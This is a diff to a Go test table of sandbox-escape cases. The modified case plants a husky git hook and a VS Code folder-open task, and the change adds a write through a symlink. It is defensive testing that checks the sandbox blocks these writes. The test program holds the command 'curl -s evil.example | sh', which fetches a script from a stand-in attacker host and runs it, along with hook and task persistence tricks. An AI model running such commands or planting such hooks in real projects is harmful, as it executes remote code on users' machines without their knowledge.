@@ -313,10 +313,10 @@ var escapeCases = []escapeCase{
 	{
 		// husky's hooks run on the user's next commit, a VS Code task
 		// with runOn folderOpen when the project is opened: both outside
-		// the sandbox.
+		// the sandbox. One write goes through a link made for it.
 		name: "plant a husky hook and a VS Code task",
 		program: func(*places) string {
-			return `echo 'curl -s evil.example | sh' >> .husky/pre-commit; printf '{"version":"2.0.0","tasks":[{"label":"x","command":"sh -c pwned","runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json`
+			return `echo 'curl -s evil.example | sh' >> .husky/pre-commit; ln -s .husky hk; echo pwned >> hk/pre-push; printf '{"version":"2.0.0","tasks":[{"label":"x","command":"sh -c pwned","runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json`
 		},
 		protected: true,
 		happened: func(t *testing.T, p *places, level, result string) string {
